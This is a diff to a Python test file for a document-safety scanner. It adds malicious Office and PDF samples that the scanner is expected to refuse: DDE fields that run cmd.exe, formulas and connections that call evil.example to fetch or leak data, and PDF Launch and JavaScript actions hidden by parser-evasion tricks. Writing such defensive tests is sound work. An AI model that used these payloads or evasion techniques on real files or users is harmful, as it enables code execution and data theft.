@@ -468,6 +468,18 @@ def word(body="<w:p/>", rels=()):
     return package(parts)
 
 
+def word_spaced(body):
+    """`word(body)` with its document part starting with whitespace (no XML declaration), as XML allows."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(word(body))) as source, zipfile.ZipFile(buffer, "w") as archive:
+        for member in source.infolist():
+            data = source.read(member)
+            if member.filename == "word/document.xml":
+                data = b" \n" * 3000 + data[data.index(b"<w:document") :]
+            archive.writestr(member, data)
+    return buffer.getvalue()
+
+
 def workbook(formula):
     return package(
         {
@@ -551,6 +563,29 @@ OUTSIDE = [
     ("gui-so-lieu.xlsx", workbook('_xlfn.WEBSERVICE("http://evil.example/?"&amp;B1)'), FETCH_REFUSED),
     ("anh-web.xlsx", workbook('_xlfn.IMAGE("http://evil.example/a.png")'), FETCH_REFUSED),
     ("mo-tep.xlsx", workbook('HYPERLINK("file://evil.example/share/a.exe","Mở")'), FETCH_REFUSED),
+    ("ghep.xlsx", workbook('HYPERLINK("\\"&amp;"\\evil\\share","x")'), FETCH_REFUSED),  # put together
+    # a part that starts with whitespace, as XML allows (fifth probe)
+    ("khoang-trang.docx", word_spaced(field_runs('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')), DDE_REFUSED),
+    (
+        "khoang-trang-anh.docx",
+        word_spaced("<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/a\"'/></w:p>"),
+        FETCH_REFUSED,
+    ),  # fmt: skip
+    # a data connection refreshed on open: a web query, a database on a share
+    (
+        "ket-noi.xlsx",
+        package(
+            {
+                "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
+                "xl/connections.xml": (
+                    '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                    '<connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://evil.example/leak"/>'
+                    "</connection></connections>"
+                ),
+            }
+        ),
+        FETCH_REFUSED,
+    ),
     (
         "ten.xlsx",
         package(
@@ -714,6 +749,36 @@ ACTIVE_PDFS = [
     (
         "a85.pdf",
         packed_pdf("/ASCII85Decode", base64.a85encode(b"2 0 << /S /Launch /F (cmd.exe) >>") + b"~>"),
+        PDF_REFUSED,
+    ),  # fmt: skip
+    # a "stream" in a comment or in a string starts no stream: what follows it is read (fifth probe)
+    (
+        "chu-thich.pdf",
+        pdf_with(
+            "% stream\n4 0 obj << /S /JavaScript /JS (app.alert('x')) >> endobj\n"
+            "5 0 obj << /Length 0 >> stream\n\nendstream endobj",
+            "/OpenAction 4 0 R",
+        ),
+        PDF_REFUSED,
+    ),  # fmt: skip
+    (
+        "chuoi.pdf",
+        pdf_with(
+            "6 0 obj << /Title (upstream\n) >> endobj\n4 0 obj << /S /Launch /F (calc.exe) >> endobj"
+            "\n5 0 obj << /Length 0 >> stream\n\nendstream endobj",
+            "/OpenAction 4 0 R",
+        ),
+        PDF_REFUSED,
+    ),  # fmt: skip
+    # an object stream whose dictionary holds "( obj)", or is longer than a few kB
+    (
+        "obj.pdf",
+        packed_pdf("/FlateDecode", zlib.compress(b"2 0 << /S /JavaScript /JS (x) >>"), "/Note ( obj)"),
+        PDF_REFUSED,
+    ),  # fmt: skip
+    (
+        "dai.pdf",
+        packed_pdf("/FlateDecode", zlib.compress(b"2 0 << /S /JavaScript /JS (x) >>"), f"/Pad ({'x' * 6000})"),
         PDF_REFUSED,
     ),  # fmt: skip
     ("mat-khau.pdf", pyhanko_pdf(password="bimat"), UNREADABLE),
